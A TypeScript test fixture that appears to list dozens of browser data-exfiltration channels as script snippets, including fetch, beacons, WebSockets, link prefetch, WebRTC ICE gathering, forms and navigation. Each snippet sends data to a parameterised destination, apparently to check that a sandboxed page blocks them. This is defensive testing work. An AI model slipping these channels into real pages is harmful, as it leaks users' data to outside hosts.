/**
 * Attempts by a script to send data out of a page, as source text for the page. Each is a function of a destination `{
 * host, port, url }`, which records everything received. It resolves when the attempt is complete. `url` ends in `/`.
 */
export interface ExfiltrationAttempt {
  readonly name: string
  readonly source: string
  /**
   * an ordinary page succeeds with this attempt, at least if the destination is an address, so the control run must
   * receive it
   */
  readonly open?: true
  /** the attempt navigates the page away unless it is blocked */
  readonly leaves?: true
}

const once = (name: string, body: string, more: Partial<ExfiltrationAttempt> = {}): ExfiltrationAttempt => ({
  name,
  source: `async ({ host, port, url }) => { ${body} }`,
  ...more,
})
const open = { open: true } as const

/** Source text that adds an element with attributes to the document. */
const added = (tag: string, attributes: string) =>
  `document.head.append(Object.assign(document.createElement('${tag}'), ${attributes}))`

/**
 * Source text that gathers ICE candidates, which contacts a server; the host name or the user name carries the data.
 */
const gathering = (scope: string, server: string) => `
  const Connection = ${scope}.RTCPeerConnection ?? ${scope}.webkitRTCPeerConnection
  const connection = new Connection({ iceServers: [{ urls: ${server}, username: 'data', credential: 'data' }] })
  connection.createDataChannel('out')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((done) => setTimeout(done, 1500))`

const FRAME = "const frame = document.createElement('iframe'); document.body.append(frame)"

export const waysOut: readonly ExfiltrationAttempt[] = [
  once('window.open', "window.open(url + 'data')", open),
  once('window.open with a name and no opener', "window.open(url + 'data', 'other', 'noopener,noreferrer')", open),
  once(
    'a link that is clicked',
    "Object.assign(document.createElement('a'), { href: url, target: '_blank' }).click()",
    open,
  ),
  once(
    'a ping of a link',
    "const a = Object.assign(document.createElement('a'), { href: '#x', ping: url }); document.body.append(a); a.click()",
    open,
  ),
  once('fetch', "await fetch(url + 'data', { mode: 'no-cors' })", open),
  once('a beacon', "navigator.sendBeacon(url, 'data')", open),
  once('XMLHttpRequest', "const request = new XMLHttpRequest(); request.open('POST', url); request.send('data')", open),
  once('a WebSocket', "new WebSocket(url.replace('http', 'ws'))", open),
  once('an EventSource', 'new EventSource(url)', open),
  once('WebTransport', "await new WebTransport(url.replace('http:', 'https:')).ready"),
  once('an image', "new Image().src = url + 'data.png'", open),
  once('a script', added('script', '{ src: url }'), open),
  once('a module', 'await import(url)', open),
  once(
    'a worker',
    'new Worker(URL.createObjectURL(new Blob([\'fetch("\' + url + \'", { mode: "no-cors" })\'])))',
    open,
  ),
  once('a worker of a service', "await navigator.serviceWorker.register('/theme.js?' + url)"),
  once('a style', added('link', "{ rel: 'stylesheet', href: url }"), open),
  once(
    'an imported style',
    "const sheet = new CSSStyleSheet(); document.adoptedStyleSheets = [sheet]; document.body.style.backgroundImage = 'url(' + url + ')'",
    open,
  ),
  once(
    'a font',
    "const font = new FontFace('out', 'url(' + url + ')'); document.fonts.add(font); await font.load()",
    open,
  ),
  once('a film', 'new Audio(url).load()', open),
  once('an object', "document.body.append(Object.assign(document.createElement('object'), { data: url }))", open),
  once('a frame', "document.body.append(Object.assign(document.createElement('iframe'), { src: url }))", open),
  once(
    'a frame of a written document',
    "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=\"' + url + '\">' }))",
    open,
  ),
  once(
    'an image in a frame',
    `${FRAME}; frame.contentDocument.body.append(Object.assign(frame.contentDocument.createElement('img'), { src: url }))`,
    open,
  ),
  once('fetch of a frame', `${FRAME}; await frame.contentWindow.fetch(url, { mode: 'no-cors' })`, open),
  once(
    'a form',
    "const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: '_blank' }); document.body.append(form); form.submit()",
    open,
  ),
  once('a connection made ahead', added('link', "{ rel: 'preconnect', href: url }")),
  once('a name looked up ahead', added('link', "{ rel: 'dns-prefetch', href: url }")),
  once('a page fetched ahead', added('link', "{ rel: 'prefetch', href: url }"), open),
  once('a page drawn ahead', added('link', "{ rel: 'prerender', href: url }")),
  once('a file loaded ahead', added('link', "{ rel: 'preload', as: 'image', href: url }"), open),
  once('a module loaded ahead', added('link', "{ rel: 'modulepreload', href: url }"), open),
  once('an icon', added('link', "{ rel: 'icon', href: url + 'icon.png' }")),
  once('a manifest', added('link', "{ rel: 'manifest', href: url }")),
  once(
    'speculation rules',
    added(
      'script',
      "{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] }) }",
    ),
  ),
  once(
    'a payment',
    "await new PaymentRequest([{ supportedMethods: url.replace('http:', 'https:') }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
  ),
  once(
    'signing in elsewhere',
    "await navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'data' }] } })",
  ),
  once('a handler of a protocol', "navigator.registerProtocolHandler('web+out', url + '%s')"),
  once('WebRTC by UDP', gathering('window', "'stun:' + host + ':' + port"), open),
  once('WebRTC by TCP', gathering('window', "'turn:' + host + ':' + port + '?transport=tcp'"), open),
  once('WebRTC of a frame', `${FRAME}; ${gathering('frame.contentWindow', "'stun:' + host + ':' + port")}`, open),
  once(
    'WebRTC of a frame by TCP',
    `${FRAME}; ${gathering('window[window.length - 1]', "'turn:' + host + ':' + port + '?transport=tcp'")}`,
    open,
  ),
  once('a download', "Object.assign(document.createElement('a'), { href: url, download: 'data' }).click()", open),
  once('another address', "location.href = url + 'data'", { open: true, leaves: true }),
  once('a refreshed page', added('meta', "{ httpEquiv: 'refresh', content: '0;url=' + url }"), {
    open: true,
    leaves: true,
  }),
]
